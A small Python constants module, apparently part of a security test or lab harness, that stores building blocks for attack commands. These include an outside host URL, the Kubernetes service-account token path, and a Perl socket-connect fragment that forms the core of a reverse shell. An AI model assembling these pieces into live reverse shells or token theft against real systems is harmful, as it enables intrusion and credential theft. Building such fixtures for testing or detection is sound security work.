"""Where attacks reach to, and words that several of them begin with."""

from node import OUTSIDE

WEB = f"http://{OUTSIDE}:8080"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
HOME = "/home/deploy"
SOCKETS = "-MSocket -e"
CONNECT = f'socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(%s,inet_aton("{OUTSIDE}")))or exit 1;'
